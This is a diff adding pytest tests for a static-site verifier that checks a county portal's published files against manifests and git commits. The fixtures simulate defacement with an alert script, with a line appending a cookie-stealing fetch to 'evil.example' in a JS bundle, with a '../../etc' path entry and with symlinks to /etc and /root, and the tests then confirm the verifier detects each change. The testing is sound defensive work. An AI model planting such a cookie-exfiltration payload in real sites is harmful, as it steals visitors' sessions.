@@ -268,3 +268,185 @@ def test_a_site_published_without_search_is_verified_without_it(published, tmp_p
     assert build_all(published["root"], plain, search=False) == 0
     assert read_manifest(plain / "demo")["search_index_sha256"] is None
     assert manifest.verify(published["root"], str(plain)) == []
+
+
+# Every file under the portal is accounted for ----------------------------------------------
+
+SCRIPT = b"<script>alert(1)</script>"
+
+
+def deface(path: Path) -> None:
+    path.write_bytes(path.read_bytes().replace(b"</body>", SCRIPT + b"</body>"))
+
+
+def test_the_portal_has_its_own_manifest(published):
+    m = read_manifest(published["site"])
+    assert (m["kind"], m["built_from"], m["dirty"], m["counties"]) == ("portal", published["second"], False, ["demo"])
+    assert {"index.html", "404.html"} <= set(m["files"])
+    assert any(rel.startswith("assets/javascripts/") for rel in m["files"])
+    assert not [rel for rel in m["files"] if rel.startswith("demo/") or rel == "manifest.json"]
+
+
+def test_a_county_whose_manifest_was_deleted_is_still_verified(published, site):
+    (site / "demo" / "manifest.json").unlink()
+    deface(site / "demo" / LEDGER_PAGE)
+    found = manifest.verify(published["root"], str(site))
+    assert [(d.county, d.kind, d.path) for d in found] == [("demo", CHANGED, LEDGER_PAGE), ("demo", MISSING, "manifest.json")]
+    found = manifest.verify(published["root"], str(site / "demo"))  # the county's own folder, no --county
+    assert [(d.county, d.kind, d.path) for d in found] == [("demo", CHANGED, LEDGER_PAGE), ("demo", MISSING, "manifest.json")]
+
+
+def test_a_county_site_missing_altogether_is_reported(published, site):
+    shutil.rmtree(site / "demo")
+    found = manifest.verify(published["root"], str(site))
+    assert [(d.county, d.kind, d.path) for d in found] == [("demo", MISSING, "")]
+
+
+def test_the_portal_pages_assets_and_extra_folders_are_verified(published, site):
+    deface(site / "index.html")
+    deface(site / "404.html")
+    (bundle,) = (site / "assets" / "javascripts").glob("bundle.*.min.js")
+    bundle.write_bytes(bundle.read_bytes() + b";fetch('https://evil.example/?'+document.cookie)")
+    (site / "sitemap.xml").unlink()
+    (site / "evil").mkdir()
+    (site / "evil" / "index.html").write_bytes(SCRIPT)
+    (site / "top.js").write_bytes(b"alert(1)")
+    (site / "demo-old").mkdir()  # a folder that looks like a county's, without a manifest
+    (site / "demo-old" / "index.html").write_bytes(SCRIPT)
+    found = manifest.verify(published["root"], str(site))
+    assert [(d.county, d.kind, d.path) for d in found] == [
+        ("", CHANGED, "404.html"),
+        ("", CHANGED, bundle.relative_to(site).as_posix()),
+        ("", CHANGED, "index.html"),
+        ("", MISSING, "sitemap.xml"),
+        ("", EXTRA, "demo-old/index.html"),
+        ("", EXTRA, "evil/index.html"),
+        ("", EXTRA, "top.js"),
+    ]
+    assert found[4].detail == "git 中没有这个文件，也不属于任何县级网站"
+
+
+def test_the_portal_without_its_manifest_is_compared_with_the_checkout(published, site):
+    (site / "manifest.json").unlink()
+    deface(site / "index.html")
+    found = manifest.verify(published["root"], str(site))
+    assert [(d.county, d.kind, d.path) for d in found] == [("", CHANGED, "index.html"), ("", MISSING, "manifest.json")]
+
+
+def test_an_edited_portal_manifest_does_not_hide_anything(published, site):
+    """The portal's manifest says which commit; its hashes and county list are not trusted."""
+    deface(site / "index.html")
+    m = read_manifest(site)
+    m["files"]["index.html"] = hashlib.sha256((site / "index.html").read_bytes()).hexdigest()
+    m["counties"] = ["demo", "../../etc", "ghost"]
+    (site / "manifest.json").write_text(json.dumps(m), "utf-8")
+    found = manifest.verify(published["root"], str(site))
+    assert [(d.county, d.kind, d.path) for d in found] == [
+        ("", CHANGED, "index.html"), ("", CHANGED, "manifest.json"), ("ghost", MISSING, "")
+    ]
+
+
+def test_a_folder_posing_as_a_county_cannot_hide_the_real_ones(published, site):
+    (site / "evil").mkdir()
+    (site / "evil" / "manifest.json").write_text(json.dumps({"county": "evil", "built_from": published["second"]}), "utf-8")
+    (site / "evil" / "index.html").write_bytes(SCRIPT)
+    deface(site / "demo" / "index.html")
+    found = manifest.verify(published["root"], str(site))
+    assert [(d.county, d.kind, d.path) for d in found] == [
+        ("demo", CHANGED, "index.html"), ("evil", UNVERIFIABLE, "manifest.json")
+    ]
+    assert "中没有这个县（市、区）" in found[1].detail
+
+
+def test_leftovers_links_and_the_lock_file(published, site):
+    """The empty lock file is vouched for; a killed build's leftovers and links are reported."""
+    assert (site / ".gongkai-build.lock").read_bytes() == b""
+    (site / ".build-demo").mkdir()
+    (site / ".build-demo" / "index.html").write_bytes(b"half")
+    (site / ".old-demo").mkdir()
+    shutil.copy(site / "demo" / "manifest.json", site / ".old-demo" / "manifest.json")  # not a county for all that
+    (site / "etc").symlink_to("/etc")
+    (site / "demo" / "home").symlink_to("/root")
+    found = manifest.verify(published["root"], str(site))
+    assert [(d.county, d.kind, d.path) for d in found] == [
+        ("", EXTRA, ".build-demo/index.html"), ("", EXTRA, ".old-demo/manifest.json"), ("", EXTRA, "etc"), ("demo", EXTRA, "home")
+    ]
+    assert found[0].detail == "中断的生成留下的未完成文件；再生成一次会清除"
+    (site / ".gongkai-build.lock").write_bytes(SCRIPT)
+    assert ("", EXTRA, ".gongkai-build.lock") in {(d.county, d.kind, d.path) for d in manifest.verify(published["root"], str(site))}
+
+
+def test_verify_over_http_covers_the_portal_and_counties_without_a_manifest(published, site, served):
+    root = published["root"]
+    deface(site / "404.html")
+    (bundle,) = (site / "assets" / "javascripts").glob("bundle.*.min.js")
+    bundle.write_bytes(bundle.read_bytes() + b";alert(1)")
+    (site / "demo" / "manifest.json").unlink()
+    deface(site / "demo" / LEDGER_PAGE)
+    found = manifest.verify(root, served)
+    assert [(d.county, d.kind, d.path) for d in found] == [
+        ("", CHANGED, "404.html"),
+        ("", CHANGED, bundle.relative_to(site).as_posix()),
+        ("demo", CHANGED, LEDGER_PAGE),
+        ("demo", MISSING, "manifest.json"),
+    ]
+
+
+def test_verify_command_names_portal_files_without_a_county(published, site, capsys):
+    (site / "evil").mkdir()
+    (site / "evil" / "index.html").write_bytes(SCRIPT)
+    (site / "demo" / "manifest.json").unlink()
+    assert manifest.verify_command(published["root"], str(site)) == 1
+    assert capsys.readouterr().out.splitlines()[:2] == [
+        "多出\tevil/index.html\tgit 中没有这个文件，也不属于任何县级网站",
+        "缺失\tdemo/manifest.json\t没有可读的 manifest.json；改为与门户生成时的提交对照",
+    ]
+
+
+@pytest.mark.parametrize("where", ["file", "under a file"])
+def test_verify_of_a_target_that_is_no_folder_is_a_message(published, tmp_path, where):
+    blocker = tmp_path / "blocker"
+    blocker.write_text("x", "utf-8")
+    target = blocker if where == "file" else blocker / "x"
+    result = subprocess.run(
+        [sys.executable, str(MAIN / "build.py"), "--root", str(published["root"]), "verify", str(target)],
+        capture_output=True, text=True,
+    )
+    assert result.returncode == 1 and "Traceback" not in result.stderr
+    assert f"{target}\t这里没有县级网站（找不到 manifest.json，或没有这个文件夹）" in result.stdout
+
+
+def test_a_portal_built_from_another_commit_than_its_counties_is_rebuilt_on_its_own(published, tmp_path):
+    """`build --county` refreshes one county and the portal: the others keep their older commit."""
+    root = published["root"]
+    mixed = tmp_path / "mixed"
+    git(root, "worktree", "add", "--detach", "-q", str(tmp_path / "wt"), published["first"])
+    try:
+        assert build_all(tmp_path / "wt", mixed) == 0
+    finally:
+        git(root, "worktree", "remove", "--force", str(tmp_path / "wt"))
+    for item in published["site"].iterdir():  # the portal of the second commit over the first one's county
+        if item.is_file():
+            shutil.copy(item, mixed / item.name)
+    assert (read_manifest(mixed)["built_from"], read_manifest(mixed / "demo")["built_from"]) == (published["second"], published["first"])
+    assert manifest.verify(root, str(mixed)) == []
+    deface(mixed / "index.html")
+    assert [(d.county, d.kind, d.path) for d in manifest.verify(root, str(mixed))] == [("", CHANGED, "index.html")]
+
+
+def test_a_folder_verify_cannot_list_is_reported_not_passed_over(published, site, monkeypatch):
+    """Root reads everything, so the refusal is the operating system's answer, simulated."""
+    (site / "evil").mkdir()
+    (site / "evil" / "index.html").write_bytes(SCRIPT)
+    hidden = {str(site / "evil"), str(site / "demo" / "units")}
+    real = os.scandir
+
+    def scandir(path="."):
+        if isinstance(path, (str, os.PathLike)) and os.fspath(path) in hidden:
+            raise PermissionError(13, "Permission denied", os.fspath(path))
+        return real(path)
+
+    monkeypatch.setattr(os, "scandir", scandir)
+    found = manifest.verify(published["root"], str(site))
+    assert [(d.county, d.kind, d.path) for d in found if d.kind == UNVERIFIABLE] == [("", UNVERIFIABLE, "evil/"), ("demo", UNVERIFIABLE, "units/")]
+    assert found[0].detail == "无法列出这个文件夹里的文件，未能核对"
